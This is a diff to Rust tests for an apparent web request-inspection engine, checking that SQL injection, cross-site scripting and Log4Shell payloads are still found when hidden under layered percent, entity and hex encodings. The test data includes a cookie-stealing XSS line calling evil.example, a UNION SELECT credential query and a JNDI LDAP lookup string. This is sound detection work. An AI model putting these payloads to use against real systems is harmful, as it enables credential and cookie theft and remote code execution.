@@ -136,8 +136,9 @@ fn decoding_of_one_value_leaves_enough_for_the_next() {
     let mut transaction = Engine::default().transaction();
     // In base64.
     let payload = "NycgVU5JT04gU0VMRUNUIGxvZ2luLCBwaW4gRlJPTSBzdGFmZg==";
-    let layers = "&amp;amp;amp;lt;%25252526lt;&#38;#38;\\\\x5c\\\\u0026 ".repeat(150);
-    let greedy: String = (0..100).map(|i| format!("\"{i}\":\"{}\",", layers.replace('\\', "\\\\"))).collect();
+    let layers = "&amp;amp;amp;lt;%25252526lt;&#38;#38;\\\\x5c\\\\u0026 ".repeat(15);
+    let greedy: String =
+        (0..1000).map(|i| format!("\"{i}\":\"{}\",", layers.replace('\\', "\\\\"))).collect();
     let body = format!("{{{greedy}\"q\":\"{payload}\"}}");
     transaction.request_line(b"POST", b"/a", Version::Http11);
     transaction.request_header(b"Content-Type", b"application/json");
@@ -147,6 +148,48 @@ fn decoding_of_one_value_leaves_enough_for_the_next() {
     assert!(transaction.anomalies().contains(sidewatch::Anomaly::DecodeBudget));
     let found = transaction.findings().iter().any(|f| f.point == "body.json.q|base64");
     assert!(found, "{:?}", transaction.findings());
+}
+
+#[test]
+fn signs_of_many_encodings_hide_no_payload() {
+    // Each decoder finds something in every line of it.
+    let signs = |lines: u64| -> String {
+        (0..lines)
+            .map(|i| format!("%{} \\x4{} &#3{};\u{ff1d}%z{} ", i % 7, i % 10, i % 8, i * i % 97))
+            .collect()
+    };
+    let each = |text: &str, form: &dyn Fn(u8) -> String| text.bytes().map(form).collect::<String>();
+    let percent = |text: &str| each(text, &|b| format!("%{b:02x}"));
+    let layers: [&dyn Fn(&str) -> String; 7] = [
+        &|text| text.to_owned(),
+        &percent,
+        &|text| percent(&percent(text)),
+        &|text| each(text, &|b| format!("&#{b};")),
+        &|text| each(text, &|b| format!("\\x{b:02x}")),
+        &|text| percent(&each(text, &|b| format!("&#{b};"))),
+        &|text| each(text, &|b| format!("&#37;{b:02x}")),
+    ];
+    let mut transaction = Engine::default().transaction();
+    let mut wrong = Vec::new();
+    for (i, layer) in layers.iter().enumerate() {
+        for lines in [20, 60, 300, 3000] {
+            for (class, payload) in [
+                ("sqli", "7' UNION SELECT login, pin FROM staff-- "),
+                ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
+                ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
+            ] {
+                let value = signs(lines) + &layer(payload) + &signs(lines / 3);
+                check(
+                    &mut transaction,
+                    &format!("{lines} lines of signs, layers {i}"),
+                    &value,
+                    class,
+                    &mut wrong,
+                );
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
 }
 
 /// Bytes as random as those of a picture.
